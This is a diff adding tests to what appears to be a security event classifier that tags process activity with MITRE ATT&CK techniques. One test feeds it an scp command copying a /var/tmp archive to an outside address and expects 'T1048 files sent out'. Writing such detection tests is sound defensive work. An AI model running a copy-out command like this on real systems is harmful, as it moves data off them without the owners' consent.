@@ -97,3 +97,16 @@ test("a call that does not name its file is known by its command line", () => {
   };
   expect(behavioursOf(call)).toEqual(["T1070.002 logs removed"]);
 });
+
+test("a copy to another host is sent out, not fetched", () => {
+  const copy = { ...START, exe: "/usr/bin/scp", arguments: "scp /var/tmp/a.tgz me@203.0.113.9:" };
+  expect(behavioursOf(copy)).toEqual(["T1048 files sent out"]);
+});
+
+test("owners are told where they change", () => {
+  const change = { event_type: "file", type: "open", exe: "/bin/cat", filename: "/srv/a" };
+  expect(said({ ...change, src_user: "ann", dst_user: "ann" })).toBe(
+    "file open | cat | cat → /srv/a",
+  );
+  expect(said({ ...change, src_user: "ann", dst_user: "bob" })).toContain("from ann to bob");
+});
